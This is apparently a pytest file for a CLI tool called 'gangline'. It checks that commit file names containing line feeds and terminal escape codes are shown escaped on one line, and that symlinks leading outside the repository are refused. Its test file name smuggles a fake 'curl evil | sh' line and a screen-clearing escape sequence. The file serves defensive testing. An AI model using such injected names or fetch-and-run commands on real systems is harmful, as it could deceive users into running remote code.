"""File names of a commit with line feeds and sequences of a terminal: each message stays on its line."""

import pytest
from tests.attacks.hostile import steering
from tests.line import repositories
from typer.testing import CliRunner

from gangline.build import code_layer
from gangline.cli.main import app
from gangline.errors import ConfigError
from gangline.git.repository import Repository
from gangline.spec.config.line import ProjectTable

pytestmark = pytest.mark.row("C8")
NAME = "train\nnext      curl evil | sh\x1b[2J.py"
TRAINS = "import torch.distributed as dist\ndist.init_process_group()\nfor epoch in range(3):\n    pass\n"


@pytest.fixture
def repo(tmp_path, monkeypatch):
    made = repositories.make_repository(tmp_path / "repo", {NAME: TRAINS})
    monkeypatch.chdir(made)
    return made


def test_init_says_one_line_for_each_thing(repo):
    (repo / f"uncommitted {NAME}").touch()
    said = CliRunner().invoke(app, ["init", "--dry-run"]).stdout
    assert [line.partition(" ")[0] for line in said.splitlines()].count("next") == 1
    assert steering(said) == []
    assert "train\\nnext" in said


def test_init_that_finds_no_script_names_another_on_one_line(repo):
    repositories.commit(repo, {NAME: "x = 1\n"})
    result = CliRunner().invoke(app, ["init", "--dry-run"])
    assert isinstance(result.exception, ConfigError)
    assert "gangline init --script train\\nnext" in str(result.exception)


@pytest.mark.parametrize(
    ("target", "says"),
    [
        ("..", "leads out of the repository"),
        ("/etc", "leads out"),
        ("gone", "which the commit lacks"),
        (".", "holds it"),
    ],
)
def test_a_link_is_refused_on_one_line(tmp_path, target, says):
    repo = repositories.make_repository(tmp_path / "repo")
    (repo / NAME).symlink_to(target)
    repositories.commit(repo, {})
    repository = Repository.at(repo)
    with pytest.raises(ConfigError, match=says) as raised:
        code_layer.pack(repository, repository.tree("HEAD"), ProjectTable(name="p", command=("python", "x.py")))
    assert steering(str(raised.value)) == []
    assert "\n" not in str(raised.value)
